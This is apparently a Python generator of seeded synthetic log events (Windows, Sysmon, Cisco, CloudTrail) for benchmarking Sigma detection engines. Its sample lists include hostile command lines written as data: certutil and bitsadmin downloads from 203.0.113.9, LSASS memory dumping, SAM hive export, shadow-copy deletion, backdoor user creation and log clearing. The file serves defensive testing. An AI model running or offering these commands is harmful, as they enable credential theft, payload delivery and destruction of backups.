"""Events for the comparison of Sigma engines: one function a lane, each made from its own seed, so that every run has the same bytes.

The shapes are those that collectors forward: Windows text in one field, Sysmon's process creation and file creation as JSON, Cisco's
command accounting, CloudTrail. `distinct` has the fields of process creation with no value twice, command lines among them, so that no
engine gains by remembering what it saw. A few in a hundred events hold something that rules look for.
"""
import glob
import json
import random
import string
import subprocess

PROGRAMS = ["C:\\Windows\\System32\\" + name for name in (
    "svchost.exe", "taskhostw.exe", "backgroundTaskHost.exe", "RuntimeBroker.exe", "wbem\\WmiPrvSE.exe", "dllhost.exe", "conhost.exe", "cmd.exe")] + [
    "C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "C:\\Program Files\\7-Zip\\7zFM.exe"]
ORDINARY = ["C:\\Windows\\System32\\svchost.exe -k LocalService -p", "taskhostw.exe KEYROAMING", "\"C:\\Windows\\System32\\conhost.exe\" 0x4",
            "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --lang=de", "cmd.exe /c dir C:\\Data",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n C:\\Users\\lena\\Documents\\plan.docx",
            "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", "ipconfig /renew", "ping -n 2 10.0.0.1"]
SUSPECT = ["powershell.exe -NoP -W Hidden -EncodedCommand JABjAGwAaQBlAG4AdAA=", "certutil -urlcache -f http://203.0.113.9/a.txt C:\\Users\\Public\\a.exe",
           "vssadmin.exe delete shadows /all /quiet", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
           "reg save HKLM\\SAM C:\\Temp\\sam.hiv", "whoami /all", "net user helper Secret-12 /add", "bitsadmin /transfer j http://203.0.113.9/x C:\\Users\\Public\\x.exe",
           "schtasks /create /sc minute /tn sync /tr C:\\Users\\Public\\sync.bat", "wmic shadowcopy delete"]
PARENTS = ["C:\\Windows\\System32\\services.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\cmd.exe"]
ACCOUNTS = ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE", "EXAMPLE\\lena", "EXAMPLE\\omar", "EXAMPLE\\svc-build"]
MACHINES = ["desk-017", "desk-204", "files-01", "dc-02", "build-5"]


def digits(chance, count):
    return f"{chance.getrandbits(4 * count):0{count}x}"


def clock(chance):
    return f"{chance.randrange(24):02d}:{chance.randrange(60):02d}:{chance.randrange(60):02d}"


def command(chance, share):
    return chance.choice(SUSPECT if chance.random() < share else ORDINARY)


def windows_text(chance):
    line, machine = command(chance, 0.1), chance.choice(MACHINES)
    fields = [machine, "MSWinEventLog", "1", "Security", str(chance.randrange(10**8, 10**9)), f"Mon Mar 02 {clock(chance)} 2026", "4688",
              "Microsoft-Windows-Security-Auditing", chance.choice(ACCOUNTS), "N/A", "Success Audit", machine, "Process Creation", "",
              f"A new process has been created.    Creator Subject:   Security ID:  S-1-5-18   Account Name:  {machine}$   Account Domain:  EXAMPLE   "
              f"Logon ID:  0x{digits(chance, 5)}    Target Subject:   Security ID:  S-1-0-0   Account Name:  -   Account Domain:  -   Logon ID:  0x0    "
              f"Process Information:   New Process ID:  0x{digits(chance, 4)}   New Process Name: {chance.choice(PROGRAMS)}   "
              f"Token Elevation Type: %%1936   Mandatory Label:  S-1-16-12288   Creator Process ID: 0x{digits(chance, 4)}   "
              f"Creator Process Name: {chance.choice(PARENTS)}   Process Command Line: {line}", str(chance.randrange(10**6, 10**7))]
    return {"message": f"<134>Mar  2 {clock(chance)} " + "\t".join(fields), "logsource": {"product": "windows"}}


def process(chance, program, line, parent, parent_line, account, machine):
    return {"EventID": 1, "Image": program, "CommandLine": line, "ParentImage": parent, "ParentCommandLine": parent_line, "User": account,
            "IntegrityLevel": chance.choice(["Medium", "High", "System"]), "CurrentDirectory": "C:\\Windows\\system32\\", "LogonId": "0x" + digits(chance, 5),
            "ProcessId": chance.randrange(500, 60000), "ParentProcessId": chance.randrange(500, 60000),
            "ProcessGuid": f"{{{digits(chance, 8)}-{digits(chance, 4)}-{digits(chance, 4)}-{digits(chance, 16)}}}",
            "Hashes": f"MD5={digits(chance, 32).upper()},SHA256={digits(chance, 64).upper()}", "OriginalFileName": program.rsplit("\\", 1)[1],
            "Computer": machine, "UtcTime": f"2026-03-02 {clock(chance)}.{chance.randrange(1000):03d}", "logsource": {"product": "windows", "category": "process_creation"}}


def windows_process(chance):
    return process(chance, chance.choice(PROGRAMS), command(chance, 0.02), chance.choice(PARENTS), chance.choice(ORDINARY), chance.choice(ACCOUNTS),
                   chance.choice(MACHINES))


def word(chance, least, most):
    return "".join(chance.choices(string.ascii_letters, k=chance.randrange(least, most)))


def path(chance):
    return "C:\\" + "\\".join(word(chance, 4, 12) for _ in range(chance.randrange(2, 5))) + "\\" + word(chance, 5, 12) + ".exe"


def line_of_words(chance):
    words = " ".join(chance.choice(["", "-", "--", "/"]) + word(chance, 2, 14) for _ in range(chance.randrange(3, 9)))
    return words + (" " + chance.choice(SUSPECT) if chance.random() < 0.02 else "")


def distinct(chance):
    program, parent = path(chance), path(chance)
    return process(chance, program, f"{program} {line_of_words(chance)}", parent, f"{parent} {line_of_words(chance)}",
                   f"{word(chance, 4, 10)}\\{word(chance, 4, 12)}", f"{word(chance, 4, 8)}-{chance.randrange(10**5)}")


def cisco(chance):
    ordinary = ["show clock", "show ip route", "show interfaces counters", "ping 192.0.2.7", "show users", "show vlan", "terminal length 0"]
    suspect = ["show running-config", "clear logging", "crypto pki import trust", "monitor capture point ip cef all both", "no logging on", "reload in 5"]
    text = (f"<189>Mar  2 {clock(chance)} {chance.choice(['edge-1', 'edge-2', 'core-sw', 'dist-4'])} %AAA-5-USER_LOGGED: User "
            f"{chance.choice(['ines', 'noc', 'backup', 'raul'])} executed: {chance.choice(suspect if chance.random() < 0.1 else ordinary)}")
    return {"message": text, "logsource": {"product": "cisco", "service": "aaa"}}


def sysmon_file(chance):
    harmless = ["C:\\Users\\omar\\Downloads\\offer.pdf", "C:\\Users\\omar\\AppData\\Local\\Temp\\setup.log", "C:\\ProgramData\\Example\\cache.db",
                "C:\\Users\\omar\\Documents\\table.xlsx", "C:\\Windows\\Temp\\tmp1A.tmp"]
    suspect = ["C:\\Users\\omar\\Downloads\\bill.pdf.exe", "C:\\Users\\Public\\run.exe", "C:\\Windows\\Temp\\lsass.dmp",
               "C:\\Users\\omar\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"]
    return {"EventID": "11", "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon",
            "Computer": chance.choice(MACHINES), "Image": chance.choice(PROGRAMS), "TargetFilename": chance.choice(suspect if chance.random() < 0.05 else harmless),
            "CreationUtcTime": f"2026-03-02 {clock(chance)}.000", "ProcessGuid": digits(chance, 32), "ProcessId": chance.randrange(500, 60000),
            "User": "EXAMPLE\\omar", "logsource": {"product": "windows", "category": "file_event"}}


def cloudtrail(folder):
    """The recorded events of the data beside the repository, with their log source said."""
    for name in sorted(glob.glob(folder + "/*.jsonl.zst")):
        with subprocess.Popen(["zstd", "-dcq", name], stdout=subprocess.PIPE) as process_:
            for text in process_.stdout:
                yield {**json.loads(text), "logsource": {"product": "aws", "service": "cloudtrail"}}


LANES = {"windows text": (windows_text, 11), "windows process": (windows_process, 12), "cisco": (cisco, 13), "sysmon file": (sysmon_file, 14),
         "distinct": (distinct, 15), "cloudtrail": (None, 0)}


def write(lane, path_, count, data):
    """Writes about `count` events; false where what the lane is made from is not there. Returns the number and the bytes."""
    make, seed = LANES[lane]
    chance = random.Random(seed)
    if make is not None:
        events = (make(chance) for _ in range(count))
    else:
        recorded = list(cloudtrail(data))
        if not recorded:
            return 0, 0
        events = (recorded[i % len(recorded)] for i in range(count))
    size = written = 0
    with open(path_, "w", encoding="utf-8") as file:
        for event in events:
            line = json.dumps(event, separators=(",", ":"), ensure_ascii=False) + "\n"
            file.write(line)
            size += len(line.encode())
            written += 1
    return written, size
